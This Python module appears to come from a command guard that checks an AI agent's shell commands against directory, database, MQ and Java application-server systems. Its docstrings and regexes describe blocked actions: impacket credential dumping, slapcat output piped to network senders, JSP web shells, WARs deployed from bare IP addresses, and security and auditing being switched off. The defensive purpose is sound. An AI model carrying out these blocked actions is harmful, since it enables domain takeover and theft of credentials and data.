"""Legacy enterprise systems from the shell (session 29): directories (OpenLDAP's slapcat and cn=config, Active
Directory from Linux: samba-tool, the impacket tools), Oracle's sqlplus and RMAN, IBM MQ (runmqsc, dltmqm, the sample
browsers), Java application servers (Tomcat's manager and users file, WildFly's add-user and CLI, WebSphere's
wsadmin, JSP pages) and the login settings of sssd and Shibboleth. The texts are read by directory_tables.py;
bash/identity.py keeps the LDAP clients' other rules (secret attributes asked for, keys planted, admin groups).

Blocked:
- the directory's or the domain's secrets taken: `impacket-secretsdump` (DCSync), `GetUserSPNs -request` /
  `GetNPUsers` (Kerberos hashes to crack), `slapcat` (every entry with its password hash) or an MQ queue's messages
  (`amqsbcg`, `amqsget`, `dmpmqmsg`) piped to a network program that sends them to an outsider's host;
- access opened: an `olcAccess` rule giving everyone write, `dSHeuristics` allowing anonymous reads, account flags
  that skip pre-authentication or passwords (`userAccountControl`), a channel run as `mqm`, CHLAUTH or CONNAUTH
  switched off, WebSphere's global security disabled, WildFly's management interface bound to every address;
  sssd's `access_provider = permit` or GPO access control disabled, Shibboleth's signature checks removed; Tomcat's
  manager given a user with a password written on the line, or its RemoteAddrValve removed;
- an administrator made with a password the agent wrote: `samba-tool user create U 'literal'` then added to Domain
  Admins, `add-user.sh -p 'literal'` in the management realm, an Oracle user created `IDENTIFIED BY` a literal and
  granted DBA;
- code planted in the server: a JSP that runs what a request carries (a web shell), a WAR fetched from a bare
  address into a deployments folder or handed to the manager's `deploy?war=`;
- Oracle's audit trail switched off (`NOAUDIT ALL`, `audit_trail=NONE`), its password hashes read (`sys.user$`).

Held (`irreversible`): a schema or tablespace dropped, RMAN's `DELETE … BACKUP|ARCHIVELOG|OBSOLETE`, an MQ queue
cleared or deleted, a queue manager deleted (`dltmqm`), AD users or computers deleted with samba-tool.

Allowed: root's read-only checks (`slapcat -l` to a file in scratch space or a backups folder, never printed nor run
with `-f`/`-F`; `adcli info|testjoin`, `samba-tool dbcheck` with known options only, `sssctl` status, `net ads
testjoin`, `kinit -k` with its cache in /tmp or /run), a WAR from a vendor's HTTPS host, `kinit -kt`/`klist -k` with a keytab (used, not printed), ordinary
MQSC, SQL and LDIF changes.
"""
from __future__ import annotations

import re
import threading

from .. import directory_tables as dt
from .. import paths
from ..hosts import public_ip
from ..per_input import decoded, in_input
from .commands import Cmd, has_flag, option_value, positionals
from .common import NET_SENDERS, input_text, mentions, pipeline_stage


def _report(a, found: list, where: str, node) -> None:
    """Hand the findings of a directory_tables judge to the analysis (each block; the first review)."""
    for verdict, rule, message in found:
        if verdict == "block":
            a.block(rule, f"{where}: {message}", node)
            return
    for verdict, rule, message in found:
        a.review(rule, f"{where}: {message}", node)
        return


def _fed(a, cmd: Cmd) -> tuple[str, object] | None:
    """What reaches `cmd`'s input: api_calls.fed_text, else the words of an `echo`/`printf` piped into it as
    written (`printf 'ALTER QMGR CHLAUTH(DISABLED) CONNAUTH(\\x27\\x27)\\n' | runmqsc QM`: an escape the
    evaluator does not render still leaves the commands readable)."""
    from .api_calls import fed_text
    from .common import feeders

    text = fed_text(a, cmd)
    if text:
        return text, cmd.node
    for c in feeders(a, cmd):
        if c.name in ("echo", "printf"):
            return " ".join(w.value or w.text for w in c.args).replace("\\n", "\n"), cmd.node
    return None


# -- Oracle -------------------------------------------------------------------------------------------------------------
def _sqlplus(a, cmd: Cmd) -> None:
    fed = _fed(a, cmd)
    if fed is not None:
        _report(a, dt.oracle_sql(fed[0]), f"the SQL fed to `{cmd.name}`", fed[1])


def _rman(a, cmd: Cmd) -> None:
    fed = _fed(a, cmd)
    texts = [fed[0]] if fed else []
    texts += [w.value for w in option_value(cmd.args, "cmd") if w.value]  # `rman target / cmd=…`
    for t in texts:
        _report(a, dt.rman(t), "`rman`", cmd.node)


# -- IBM MQ -------------------------------------------------------------------------------------------------------------
def _runmqsc(a, cmd: Cmd) -> None:
    fed = _fed(a, cmd)
    if fed is None:
        from .written import text_written

        files = [w.value for w in option_value(cmd.args, "-f") if w.value]
        got = text_written(a, files[0]) if files else None
        fed = (got[0], cmd.node) if got else None
    if fed is not None:
        _report(a, dt.mqsc(fed[0]), "the MQSC commands `runmqsc` runs", fed[1])


def _dltmqm(a, cmd: Cmd) -> None:
    qm = [w.value or w.text for w in positionals(cmd.args, frozenset({"-w"}))]
    a.review("irreversible", f"`dltmqm {' '.join(qm)}` deletes the queue manager with every queue, message and log "
                             "it holds, with no undo; back up its definitions (`dmpmqcfg`) and let the user run it",
             cmd.node)


# -- secrets or messages fed to a program that sends them off ------------------------------------------------------------
_MQ_READERS = frozenset({"amqsbcg", "amqsbcgc", "amqsget", "amqsgetc", "dmpmqmsg", "amqsbrowse"})


# an application server's own configuration folder: its users' password hashes, keystores and the key that decrypts
# its stored passwords
_SERVER_CONFIG = re.compile(r"/standalone/configuration/?$|/domain/configuration/?$|/tomcat[\w.-]*/conf/?$|"
                            r"/user_projects/domains/[^/]+/?(?:security|config)?/?$|/config/cells/?$")


def _fed_secret(c: Cmd) -> str | None:
    name = c.name.rsplit("/", 1)[-1]
    if name in ("tar", "zip", "7z", "cpio") and any(_SERVER_CONFIG.search(w.value or "") for w in c.args):
        return f"`{name}` packs an application server's configuration (its users' password hashes and keystores)"
    if name == "slapcat":
        return "`slapcat` prints every entry of the directory with its password hash"
    if name in _MQ_READERS:
        return f"`{name}` prints the messages of the queue"
    return None


# the programs _fed_secret knows, as they appear in a pipeline's text (a cheap test before the feeders are looked up)
_FEED_NAMES = re.compile(r"slapcat|amqs|dmpmqmsg|\b(?:tar|zip|7z|cpio)\b")
_EXPORT_BYTES = re.compile(rb"\bexp(?:dp)?\b")  # (a Data Pump or classic export somewhere in the input)


def _sent(a, cmd: Cmd) -> None:
    from .brokers import _feeders, destinations
    from .net import _is_sender, _sends_off

    # (the cheap tests first: most senders of most inputs have no export made before them and no feeder named in
    # their pipeline, and whose hosts they name is then never asked)
    exported = in_input(_EXPORT_BYTES, a.doc.data)
    where = pipeline_stage(cmd)
    before = "\n".join([a.src(cmd.node)] + [a.src(s) for s in (where[0][:where[1]] if where else [])])
    fed = _FEED_NAMES.search(before) is not None
    if not (exported or fed) or not _is_sender(cmd) or not _sends_off(cmd):
        return
    from .. import brokers_tables as bt

    text = decoded(a.doc.data)
    hosts = destinations(cmd)
    far = [h for h in hosts if h != "?" and (public_ip(h) or bt.outsider(h, text))]
    if far and exported and (dump := _dump_sent(a, cmd)):
        a.block("exfiltration", f"`{cmd.name}` sends {dump} to {far[0]}, a host outside the organisation's network; "
                                "keep database exports in the organisation's storage", cmd.node)
        return
    if not fed:
        return
    for c in _feeders(a, cmd):
        what = _fed_secret(c)
        # slapcat's copy to the organisation's own backup host is the nightly job; to a host known only at run time
        # it may go anywhere
        if what and (far or c.name.rsplit("/", 1)[-1] == "slapcat" and "?" in hosts):
            a.block("exfiltration", f"{what}, and `{cmd.name}` sends it off the machine"
                                    f"{' to ' + far[0] if far else ''}; keep the directory's and the queues' data "
                                    "in the organisation's network", cmd.node)
            return


_SLOTS = threading.local()  # per thread, the input being judged: what each reader found in its commands so far


def _per_input(a, key: str, read) -> list:
    """What `read(command)` finds in each command of this input, each command read once (a list of 2,500
    `addmembers` would otherwise read every command again for each). Kept per thread, for the input being judged."""
    commands = a.ctx.commands
    slot = getattr(_SLOTS, key, None)
    if slot is None or slot[0] is not commands or slot[1] is not a.doc:
        slot = [commands, a.doc, 0, []]
        setattr(_SLOTS, key, slot)
    for doc, c in commands[slot[2]:]:
        if doc is a.doc:
            slot[3].extend(read(c))
    slot[2] = len(commands)
    return slot[3]


def _exports(c: Cmd) -> list[tuple[int, str]]:
    if c.name not in ("expdp", "exp"):
        return []
    return [(c.node.start_byte, m.group(1).rsplit("/", 1)[-1]) for w in c.args
            if (m := re.match(r"(?i)(?:dumpfile|file)=(?:\w+:)?([^,\s]+)", w.value or ""))]


def _dump_sent(a, cmd: Cmd) -> str | None:
    """The Data Pump export (`expdp … dumpfile=F`) this input made, when `cmd` names F (in whatever folder the
    directory object points at)."""
    names = {name for at, name in _per_input(a, "exports", _exports) if at < cmd.node.start_byte}
    if not names:
        return None
    for w in cmd.args:
        v = (w.value or "").lstrip("@")
        if v.rsplit("/", 1)[-1] in names:
            return f"the database export {v.rsplit('/', 1)[-1]} (`expdp`)"
    return None


# -- Active Directory from Linux ----------------------------------------------------------------------------------------
_AD_ADMIN_GROUPS = frozenset({"domain admins", "enterprise admins", "schema admins", "administrators",
                              "account operators", "backup operators", "server operators", "dnsadmins",
                              "group policy creator owners", "key admins", "enterprise key admins"})
_SAMBA_ARG = frozenset({"-H", "--URL", "-U", "--username", "--password", "-W", "--workgroup", "-s", "--configfile",
                        "--realm", "--ipaddress", "-k", "--kerberos", "--use-kerberos", "--description",
                        "--given-name", "--surname", "--mail-address", "--userou", "--computerou", "--groupou",
                        "--random-password", "--newpassword", "--filter", "--attributes", "-d", "--debuglevel"})


def _samba_pos(cmd: Cmd) -> list[str | None]:
    return [w.value for w in positionals(cmd.args, _SAMBA_ARG - {"--random-password"})]


def _samba_created(a, user: str) -> bool:
    """Whether this input runs `samba-tool user create|add USER 'literal'` (a password written on the line)."""
    return user in _samba_accounts(a)


def _samba_accounts(a) -> set[str]:
    """The accounts this input creates with a literal password."""
    return set(_per_input(a, "accounts", _samba_created_by))


def _samba_created_by(c: Cmd) -> list[str]:
    if c.name != "samba-tool":
        return []
    pos = positionals(c.args, _SAMBA_ARG - {"--random-password"})
    if len(pos) > 3 and [w.value for w in pos[:2]] in (["user", "create"], ["user", "add"]) and pos[3].value and \
            "$" not in pos[3].text and pos[2].value:
        return [pos[2].value]
    return []


def _samba_tool(a, cmd: Cmd) -> None:
    pos = _samba_pos(cmd)
    if len(pos) < 2:
        return
    kind, verb = pos[0], pos[1]
    if kind == "group" and verb in ("addmembers", "add-members") and len(pos) > 3:
        group = (pos[2] or "").lower()
        if group not in _AD_ADMIN_GROUPS:
            return
        members = [m for p in pos[3:] for m in (p or "").split(",") if m]
        if any(_samba_created(a, m) for m in members):
            a.block("privilege-escalation", f"`samba-tool group addmembers \"{pos[2]}\"` makes an account this input "
                                            "created with a password written on the line an administrator of the "
                                            "whole domain: a login the agent knows; ask a domain administrator",
                    cmd.node)
        else:
            a.review("privilege-escalation", f"`samba-tool group addmembers \"{pos[2]}\" {' '.join(members)}` makes "
                                             "them administrators of the domain; a person should confirm it",
                     cmd.node)
    elif verb == "delete" and kind in ("user", "computer", "group", "ou", "contact"):
        a.review("irreversible", f"`samba-tool {kind} delete` removes the {kind} from the domain with its SID and "
                                 "group links (a new one with the same name is another account); disable it first "
                                 "and let the user confirm the delete", cmd.node)


_IMPACKET_DUMP = re.compile(r"(?i)^(?:impacket-)?(secretsdump|getuserspns|getnpusers|gettgt|dcsync|lsadump)"
                            r"(?:\.py)?$")


def _impacket(a, cmd: Cmd) -> None:
    m = _IMPACKET_DUMP.match(cmd.name.rsplit("/", 1)[-1])
    if m is None:
        return
    tool = m.group(1).lower()
    if tool in ("getuserspns",) and not any(w.value in ("-request", "-request-user", "-outputfile")
                                            for w in cmd.args):
        return  # lists the accounts with SPNs; asks for no ticket
    for w in option_value(cmd.args, "-outputfile"):
        if w.value:
            from .net import note_file

            note_file(a, w.value, "the domain's password hashes", cmd.node, prefix=True)
    what = {"secretsdump": "copies the password hashes of the domain's accounts (DCSync, or the SAM and LSA "
                           "secrets)",
            "getuserspns": "asks for service tickets whose encryption is the service accounts' passwords, to crack "
                           "offline (Kerberoasting)",
            "getnpusers": "asks for the hashes of accounts without pre-authentication, to crack offline"}.get(
        tool, "takes the domain's credentials")
    a.block("secret-read", f"`{cmd.name}` {what}: credentials of the domain in the agent's hands; agents must not "
                           "collect credentials", cmd.node)


# -- LDAP servers' own configuration -----------------------------------------------------------------------------------
def _ldap_config(a, cmd: Cmd) -> None:
    from .. import idp_shell as idp
    from .identity import _ldif

    text = _ldif(a, cmd)
    if not text:
        return
    found = dt.ldif_config(idp.ldif_changes(text))
    if found is not None:
        _report(a, [found], f"`{cmd.name}`", cmd.node)


# -- Java application servers ----------------------------------------------------------------------------------------
def _add_user(a, cmd: Cmd) -> None:
    """WildFly's `add-user.sh -u U -p 'literal'`: without `-a` the user goes to the management realm, an
    administrator of the server."""
    if has_flag(cmd.args, "a", ("--application",)):
        groups = ",".join(w.value or "" for w in option_value(cmd.args, "-g", "--group")).lower()
        if not re.search(r"superuser|administrator|admin", groups):
            return
    pw = option_value(cmd.args, "-p", "--password")
    if pw and "$" not in pw[0].text and pw[0].value:
        a.block("privilege-escalation", f"`{cmd.name}` adds an administrator of the application server with a "
                                        "password written on the line: a login the agent knows; let the user "
                                        "create administrators", cmd.node)


_MGMT_OPEN = re.compile(r"/interface=management:write-attribute\(\s*name=inet-address\s*,\s*value=0\.0\.0\.0|"
                        r"(?i:jboss\.bind\.address\.management=0\.0\.0\.0)")


def _jboss_cli(a, cmd: Cmd) -> None:
    text = " ".join(w.value or w.text for w in cmd.args)
    fed = _fed(a, cmd)
    if fed:
        text += "\n" + fed[0]
    if _MGMT_OPEN.search(text):
        a.block("permission-tamper", f"`{cmd.name}` binds the server's management interface to every address: the "
                                     "administration console is reachable from any network; keep it on the "
                                     "management network", cmd.node)


_SECURITY_OFF = re.compile(r"(?i)setGlobalSecurity\s*\(\s*['\"]\[?\s*-enabled\s+false|"
                           r"setAdminActiveSecuritySettings\s*\([^)]*-enableGlobalSecurity\s+false|"
                           r"appSecurityEnabled['\"]?\s*,\s*['\"]?false")


def _wsadmin(a, cmd: Cmd) -> None:
    text = " ".join(w.value or w.text for w in cmd.args)
    from .written import text_written

    for w in option_value(cmd.args, "-f"):
        got = text_written(a, w.value) if w.value else None
        if got:
            text += "\n" + got[0]
    if _SECURITY_OFF.search(text):
        a.block("permission-tamper", "`wsadmin` switches WebSphere's global security off: the consoles and every "
                                     "application run without logins; change the one setting the user names",
                cmd.node)


def _deploy_url(a, cmd: Cmd) -> None:
    """`curl …/manager/text/deploy?path=/x&war=http://198.51.100.7/x.war`: Tomcat fetches and runs the WAR."""
    from .. import brokers_tables as bt
    from .net import http_requests

    reader = http_requests(cmd.name)
    if reader is None or _DEPLOY_HINT.search(a.src(cmd.node)) is None:
        return  # (most requests name no deploy, no archive and no deploy folder: nothing below reads them)
    text = input_text(a)
    for r in reader(cmd.args):
        for u in r.urls:
            url = u.value or ""
            m = re.search(r"/deploy\?(?:[^#]*&)?war=([^&#]+)", url)
            if m and (host := bt.outsider_url(m.group(1).replace("%3A", ":").replace("%2F", "/"), text)):
                a.block("download-exec", f"`{cmd.name}` has the application server deploy a WAR from {host}, "
                                         "outside the organisation's network: its code runs in the server; deploy "
                                         "builds of the project", cmd.node)
                return
    _war_fetched(a, cmd)


# (what the two readers below need to find on the command's line)
_DEPLOY_HINT = re.compile(r"deploy|webapps|dropins|\.(?:war|ear|jar|jspx?)\b")
_DEPLOY_FOLDER = re.compile(r"/(?:deployments|webapps|autodeploy|dropins|hotdeploy)/")
_DEPLOY_EXT = re.compile(r"\.(?:war|ear|jar|jspx?)$")


def _deployed(path: str) -> bool:
    """A file an application server deploys: a WAR, EAR, JAR or page anywhere under its deployments folder."""
    return _DEPLOY_EXT.search(path) is not None and _DEPLOY_FOLDER.search(path) is not None


def _war_fetched(a, cmd: Cmd) -> None:
    """`curl http://198.51.100.23/x.war -o /opt/wildfly/standalone/deployments/x.war`: the server deploys what a bare
    address or a drop service served (blocked), or what an unknown host served over plain HTTP (held: anyone on the
    way may swap it). A vendor's release over HTTPS (Jenkins' WAR, a JDBC driver from Maven Central, a forge's
    release) is the documented install."""
    from .. import brokers_tables as bt
    from ..scraping_tables import stranger_sink
    from ..hosts import url_host
    from .net import http_requests

    outs = [w.value for w in option_value(cmd.args, "-o", "--output", "-O", "--output-document") if w.value]
    target = next((o for o in outs if _deployed(o)), None)
    reader = http_requests(cmd.name)
    if target is None or reader is None:
        return
    text = input_text(a)
    for r in reader(cmd.args):
        for u in r.urls:
            host = bt.outsider_url(u.value, text)
            if not host:
                continue
            if stranger_sink(url_host(u.value or "") or host):
                a.block("download-exec", f"`{cmd.name}` puts what {host} serves into {target}, which the "
                                         "application server deploys and runs; deploy builds of the project",
                        cmd.node)
                return
            if (u.value or "").lower().startswith("http://"):
                a.review("download-exec", f"`{cmd.name}` puts what {host} serves over plain HTTP into {target}, which "
                                          "the application server deploys and runs; a person should confirm the "
                                          "source", cmd.node)
                return


def _jsp_written(a, cmd: Cmd) -> None:
    """`cat > webapps/ROOT/x.jsp <<EOF … Runtime.getRuntime().exec(request.getParameter…)`: a web shell."""
    from .exec import stdin_text

    fed = stdin_text(a, cmd)
    if fed is not None and dt.jsp_shell(fed[0]):
        a.block("persistence", f"`{cmd.name}` writes a JSP page that runs the commands a request carries: a web "
                               "shell on the application server; agents must not plant remote access", cmd.node)


# -- settings files written: called by admin.judge_write -----------------------------------------------------------
_SSSD_OPEN = re.compile(r"(?i)\baccess_provider\s*=\s*permit\b|\bad_gpo_access_control\s*=\s*(?:disabled|permissive)\b|"
                        r"\bsimple_allow_users\s*=\s*\*|\bldap_access_order\s*=\s*expire\b")


_SED_DELETES = re.compile(r"(?m)(?:^|;)[ \t]*/([^/\n]{1,300})/[ \t]*d\b")  # `/RemoteAddrValve/d` among other commands


def _sed_edit(cmd: Cmd, script: str) -> tuple[str, str, list[tuple[str, str]]]:
    """What a `sed -i` script writes (its replacements and added lines), what it removes (the lines it deletes, and
    the patterns a substitution replaces by nothing), and its substitutions: the pattern side names what is there
    now, not what the file says after the edit (`s/signing="false"/signing="true"/` turns signing on)."""
    from .admin import _deletes_lines
    from .sed import line_edits, substitutions

    subs = substitutions(cmd)
    added = "\n".join([r for _, r in subs] + [t for _, t in line_edits([script])])
    removed = "\n".join([_deletes_lines(cmd) or ""] + [p for p, r in subs if not r.strip()] +
                        _SED_DELETES.findall(script))
    return added, removed, subs


def config_write(a, cmd: Cmd, w, value: str) -> bool:
    """A login or deployment setting of the servers above weakened in what `cmd` writes to `value`; True when
    blocked here."""
    from .admin import _sed_script, written_text

    if not dt.judged_write(value):
        return False
    low = value.lower()
    script = _sed_script(cmd) if cmd.name in ("sed", "gsed") else None
    subs: list[tuple[str, str]] = []
    if script is not None:
        text, removed, subs = _sed_edit(cmd, script)
    else:
        text, removed = written_text(a, cmd, w), ""
    found = None
    if low.endswith("tomcat-users.xml") and text and (m := dt.tomcat_admin(text)):
        found = ("privilege-escalation", f"`{m}` adds an administrator of Tomcat's manager with a password written "
                                         "on the line (the manager deploys code): a login the agent knows; let the "
                                         "user create administrators")
    elif low.endswith("/context.xml") and (dt.valve_removed(removed) or any(dt.valve_edit_opens(p, r) for p, r in subs)):
        found = ("permission-tamper", "the RemoteAddrValve that keeps the manager application to this machine is "
                                      "removed or opened to every address: the manager (which deploys code) answers "
                                      "every network; keep it")
    elif "sssd" in low and text and (m := _SSSD_OPEN.search(text)):
        found = ("permission-tamper", f"`{m.group(0)}` lets every account of the directory log in to this machine "
                                      "(the access rules and group policies no longer apply); keep the access "
                                      "control on")
    elif low.endswith("shibboleth2.xml") and (text and dt.SAML_OFF.search(text) or "signature" in removed.lower()):
        found = ("permission-tamper", "Shibboleth's signature checks on metadata or assertions are removed: anyone "
                                      "can then present assertions the service accepts; keep them")
    elif low.endswith((".jsp", ".jspx")) and text and dt.jsp_shell(text):
        found = ("persistence", "a JSP page that runs the commands a request carries: a web shell on the "
                                "application server; agents must not plant remote access")
    if found is None:
        return False
    a.block(found[0], f"`{cmd.name}` writes {value}: {found[1]}", w.node)
    return True


# -- keytabs: used, not printed ------------------------------------------------------------------------------------------
def keytab_words(cmd: Cmd) -> frozenset[tuple[int, int]]:
    """The spans of the keytab words `kinit -k -t KT` logs in with and `klist -k KT` lists (principals and key
    types, not the keys: `-K` prints those): the tool uses the file as `ssh -i` does its key. For bash/files.py's
    secret-read check to skip."""
    if cmd.name not in ("kinit", "klist"):
        return frozenset()
    if cmd.name == "klist" and (not has_flag(cmd.args, "k") or has_flag(cmd.args, "K")):
        return frozenset()
    if cmd.name == "kinit" and not has_flag(cmd.args, "k", ("--use-keytab",)):  # (Heimdal's long form)
        return frozenset()
    out = set()
    for w in cmd.args:
        if (w.value or "").endswith(".keytab") or (w.value or "").startswith("FILE:"):
            out.add((w.node.start_byte, w.node.end_byte))
    return frozenset(out)


HANDLERS: dict = {
    "sqlplus": [_sqlplus], "rman": [_rman], "runmqsc": [_runmqsc], "dltmqm": [_dltmqm],
    **{n: [_sent] for n in NET_SENDERS},
    "samba-tool": [_samba_tool],
    **dict.fromkeys(("impacket-secretsdump", "secretsdump.py", "impacket-GetUserSPNs", "GetUserSPNs.py",
                     "impacket-GetNPUsers", "GetNPUsers.py"), [_impacket]),
    **dict.fromkeys(("ldapmodify", "ldapadd"), [_ldap_config]),
    **dict.fromkeys(("add-user.sh", "add-user"), [_add_user]),
    **dict.fromkeys(("jboss-cli.sh", "jboss-cli"), [_jboss_cli]),
    **dict.fromkeys(("wsadmin.sh", "wsadmin"), [_wsadmin]),
    **dict.fromkeys(("cat", "tee"), [_jsp_written]),
}
for _n in ("curl", "wget"):
    HANDLERS[_n] = [*HANDLERS.get(_n, []), _deploy_url]
# the words each handler reads (bash/fastpath.py)
_FEEDS = mentions("slapcat", "expdp", "exp ", "configuration", "conf", "user_projects", "cells",
                  *sorted(_MQ_READERS))
SCREENS: dict = {
    "sqlplus": mentions("drop", "grant", "audit", "user$", "link$", "spare4", "password", fold=True),
    "rman": mentions("delete", "drop", fold=True),
    "runmqsc": mentions("clear", "delete", "chlauth", "connauth", "mcauser", "chckclnt", fold=True),
    "dltmqm": lambda text: True,
    **{n: _FEEDS for n in NET_SENDERS},
    "samba-tool": mentions("addmembers", "add-members", "delete"),
    **dict.fromkeys(("impacket-secretsdump", "secretsdump.py", "impacket-GetUserSPNs", "GetUserSPNs.py",
                     "impacket-GetNPUsers", "GetNPUsers.py"), lambda text: True),
    **dict.fromkeys(("ldapmodify", "ldapadd"), mentions("olcaccess", "dsheuristics", "useraccountcontrol",
                                                         "olcrootpw", "olcsecurity", fold=True)),
    **dict.fromkeys(("add-user.sh", "add-user"), mentions("-p", "--password")),
    **dict.fromkeys(("jboss-cli.sh", "jboss-cli"), mentions("0.0.0.0")),
    **dict.fromkeys(("wsadmin.sh", "wsadmin"), mentions("-f", "ecurity", "false")),
    **dict.fromkeys(("cat", "tee"), mentions("<%")),
}
for _n in ("curl", "wget"):
    SCREENS[_n] = (lambda old, new: lambda text: old(text) or new(text))(
        SCREENS.get(_n, lambda text: False), mentions("war=", ".war", ".ear", ".jar", ".jsp"))


# -- root's read-only checks of the directory's clients (admin.ROOT_QUERIES, read by system.inspection) ---------------
# Each test reads the words as the tool does and passes only the forms that read or write a copy where no system file
# lives: an option outside the known ones, a verb that changes something, or an operand too many keeps the review.
def _getopt(vals: list[str], flags: str, valued: str, long: dict[str, str] | None = None) -> dict | None:
    """The options of a getopt-style command line (`-kt KT`, `-lFILE`, `--keytab=KT` through `long`, which maps a long
    option to its letter: `=` for one that takes no value is given as the letter followed by `!`), with "" for the
    operands; None when a word is an option the tool's reads do not take."""
    out: dict[str, list[str]] = {"": []}
    j = 0
    while j < len(vals):
        v = vals[j]
        j += 1
        if v == "--":
            out[""] += vals[j:]
            break
        if v[:2] == "--":
            key, eq, tail = v.partition("=")
            letter = (long or {}).get(key)
            if letter is None:
                return None
            if letter.endswith("!"):
                out.setdefault(letter[0], []).append("")
            elif eq:
                out.setdefault(letter, []).append(tail)
            elif j < len(vals):
                out.setdefault(letter, []).append(vals[j])
                j += 1
            else:
                return None
            continue
        if v[:1] != "-" or v == "-":
            out[""].append(v)
            continue
        for k in range(1, len(v)):
            ch = v[k]
            if ch in valued:
                if v[k + 1:]:
                    out.setdefault(ch, []).append(v[k + 1:])
                elif j < len(vals):
                    out.setdefault(ch, []).append(vals[j])
                    j += 1
                else:
                    return None
                break
            if ch not in flags:
                return None
            out.setdefault(ch, []).append("")
    return out


# where root's copy of the directory may go: scratch space or a backups folder, never a file the system reads
_COPY_FOLDER = re.compile(r"^(?:/tmp/|/var/tmp/|/var/backups/|/backups?/|/(?:srv|data|mnt|opt|u0\d)/(?:[^/]+/)*"
                          r"[^/]*backup[^/]*/)")


def _copy_target(path: str) -> bool:
    n = paths.normalize(path)
    return bool(_COPY_FOLDER.match(n)) and ".." not in n.split("/") and "$" not in n


def _slapcat_reads(vals: list[str], pos: list[str]) -> bool:
    """`slapcat -n 1 -l /var/backups/ldap/x.ldif`: the directory copied into a backups folder. Printed instead (every
    password hash in the agent's hands), written over a system file (`-l /etc/passwd`) or run with a configuration
    the input may have written (`-f`, `-F`: `moduleload` runs code as root), it keeps the review."""
    opts = _getopt(vals, "cgvq", "abdfFHlnos")
    if opts is None or opts[""] or "f" in opts or "F" in opts:
        return False
    out = opts.get("l", [])
    return len(out) == 1 and _copy_target(out[0])


# samba-tool's reads, by their verbs (the most operands each takes) and the options they may carry; samba-tool's
# option parser takes any unambiguous prefix of a long option (`--fi` is `--fix`), so a prefix is read as the option
# it may stand for: only whole known options pass
_SAMBA_READS = {("dbcheck",): 1, ("domain", "info"): 1, ("domain", "level", "show"): 0, ("drs", "showrepl"): 1,
                ("fsmo", "show"): 0, ("user", "list"): 0, ("group", "list"): 0, ("computer", "list"): 0,
                ("user", "show"): 1, ("group", "listmembers"): 1, ("testparm",): 0}
_SAMBA_READ_OPTS = frozenset({"--cross-ncs", "--scope", "-v", "--verbose", "-q", "--quiet", "--json", "--full-dn",
                              "--suppress-prompt", "-k", "--kerberos", "--use-kerberos"}) | \
    frozenset({"-H", "--URL", "-U", "--username", "-W", "--workgroup", "-s", "--configfile", "--realm", "-d",
               "--debuglevel", "--server"})
_SAMBA_VALUED = frozenset({"-H", "--URL", "-U", "--username", "-W", "--workgroup", "-s", "--configfile", "--realm",
                           "-d", "--debuglevel", "--server", "--scope"})
_NET_READS = {("ads", "testjoin"): 0, ("ads", "info"): 0, ("ads", "status"): 0, ("ads", "lookup"): 0,
              ("rpc", "testjoin"): 0, ("ads", "workgroup"): 0}
_NET_READ_OPTS = frozenset({"-k", "--kerberos", "-P", "--machine-pass", "-U", "--user", "-S", "--server", "-W",
                            "--workgroup", "-d", "--debuglevel", "-s", "--configfile"})
_NET_VALUED = frozenset({"-U", "--user", "-S", "--server", "-W", "--workgroup", "-d", "--debuglevel", "-s",
                         "--configfile"})


def _verbs(*ok: str, bare: bool = True):
    """system._verbs (one-word verbs), imported when first asked (system.py imports files.py, which imports admin.py,
    which reads this table as it loads)."""
    def test(vals: list[str], pos: list[str]) -> bool:
        from .system import _verbs as verbs

        return verbs(*ok, bare=bare)(vals, pos)
    return test


def _verb_reads(table: dict, known: frozenset, valued: frozenset):
    """A test for a tool whose verb is several words (`samba-tool domain level show`): the operands left once the
    options and their values are set apart start with a verb of `table`, with at most its count of operands after
    it, and every option is in `known`."""
    def test(vals: list[str], pos: list[str]) -> bool:
        ops: list[str] = []
        j = 0
        while j < len(vals):
            v = vals[j]
            j += 1
            if v[:1] != "-":
                ops.append(v)
                continue
            key = v.split("=", 1)[0]
            if key not in known:
                return False
            if key in valued and "=" not in v:
                j += 1
        for size in (3, 2, 1):
            most = table.get(tuple(ops[:size]))
            if most is not None and len(ops) >= size:
                return len(ops) - size <= most
        return False
    return test


def _keytab_login(vals: list[str], pos: list[str]) -> bool:
    """`kinit -kt /etc/krb5.keytab host/web03`: root logs the machine in with its keytab. A credential cache written
    by root outside /tmp and /run (`-c /etc/cron.d/x`) or an armour or certificate read from a file keeps the
    review."""
    opts = _getopt(vals, "fpFPn45aAVkiRvCE", "rlscStTXI", {"--use-keytab": "k!", "--keytab": "t", "--cache": "c"})
    if opts is None or "k" not in opts or "T" in opts or "X" in opts or len(opts[""]) > 1:
        return False
    return all(_ticket_cache(c) for c in opts.get("c", []))


def _ticket_cache(spec: str) -> bool:
    kind, colon, path = spec.partition(":")
    if not colon:
        kind, path = "FILE", spec
    n = paths.normalize(path)
    return kind.upper() == "FILE" and n.startswith(("/tmp/", "/run/")) and ".." not in n.split("/")


ROOT_QUERIES: dict = {
    "slapcat": _slapcat_reads,
    "adcli": _verbs("info", "testjoin", "show-computer", "show-user", "show-group", bare=False),
    "samba-tool": _verb_reads(_SAMBA_READS, _SAMBA_READ_OPTS, _SAMBA_VALUED),
    "sssctl": _verbs("domain-list", "domain-status", "user-checks", "config-check", "user-show", "group-show",
                     "netgroup-show", "analyze", bare=False),
    "net": _verb_reads(_NET_READS, _NET_READ_OPTS, _NET_VALUED),
    "realm": _verbs("list", "discover"),
    "kinit": _keytab_login,
    "klist": lambda vals, pos: not any(v[:1] == "-" and v[1:2] != "-" and "K" in v for v in vals),
}


def _slapcat(a, cmd: Cmd) -> None:
    """The files that end up holding slapcat's copy of the directory: its `-l FILE`, its output redirected, and what
    the later stages of its pipeline write (`| gzip > d.gz`, `| tee d.ldif`); each is noted (a name it is later
    renamed to by a compressor, `d.ldif.gz`, included), so an upload of it later in the input is exfiltration."""
    from .files import written_file
    from .net import note_file

    outs = [w.value for w in option_value(cmd.args, "-l") if w.value]
    outs.append(written_file(a, cmd.redirects))
    where = pipeline_stage(cmd)
    if where is not None:  # (read from the tree: the later stages are not yet among the commands seen)
        pipe = where[0][0].parent
        if pipe.parent is not None and pipe.parent.type == "redirected_statement":
            outs.append(written_file(a, pipe.parent.children_by_field_name("redirect")))
        for stage in where[0][where[1] + 1:]:
            body = stage
            if stage.type == "redirected_statement":
                outs.append(written_file(a, stage.children_by_field_name("redirect")))
                body = (stage.children_by_field_name("body") or [stage])[0]
            if body.type == "command" and (name := body.child_by_field_name("name")) is not None and \
                    a.src(name).rsplit("/", 1)[-1] == "tee":
